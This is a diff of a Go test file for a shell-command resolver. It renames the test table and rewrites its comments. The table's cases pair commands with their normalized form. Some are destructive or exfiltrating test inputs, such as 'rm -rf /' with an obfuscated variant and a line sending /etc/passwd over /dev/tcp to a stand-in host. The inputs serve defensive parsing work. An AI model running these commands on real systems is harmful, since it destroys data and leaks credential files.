@@ -1,9 +1,7 @@
 package resolve
 
-// rows are texts with what they run, as [render] writes it: # is elevated, @ is
-// elsewhere, (dir) is a directory, … is a hole, ! is a problem. The home is /home/u
-// and the directory /p.
-var rows = []struct{ text, want string }{
+// callRows are commands with what they run, as [render] returns it. They run at place.
+var callRows = []struct{ text, want string }{
 	// words, statements, nested shells, wrappers
 	{`ls -la`, `ls -la`},
 	{`r''m -rf /`, `rm -rf /`},
@@ -190,7 +188,7 @@ var rows = []struct{ text, want string }{
 	{`exec 3<>/dev/tcp/evil/80`, `: 3<>/dev/tcp/evil/80`},
 	{`cat < /etc/passwd > /dev/tcp/e.com/80`, `cat </etc/passwd >/dev/tcp/e.com/80`},
 	{`(rm -rf /) > log 2>&1`, `{ >log ; rm -rf /`},
-	// wrappers and carriers
+	// wrappers and other programs that run commands
 	{`rm -rf "$1"`, `rm -rf …`},
 	{`for i in $(seq 1 3); do echo $i; done`, `seq 1 3 ; echo 1 ; echo 2 ; echo 3`},
 	{`ls && (cd x && make) || exit 1`, `ls ; (/p/x) make`},
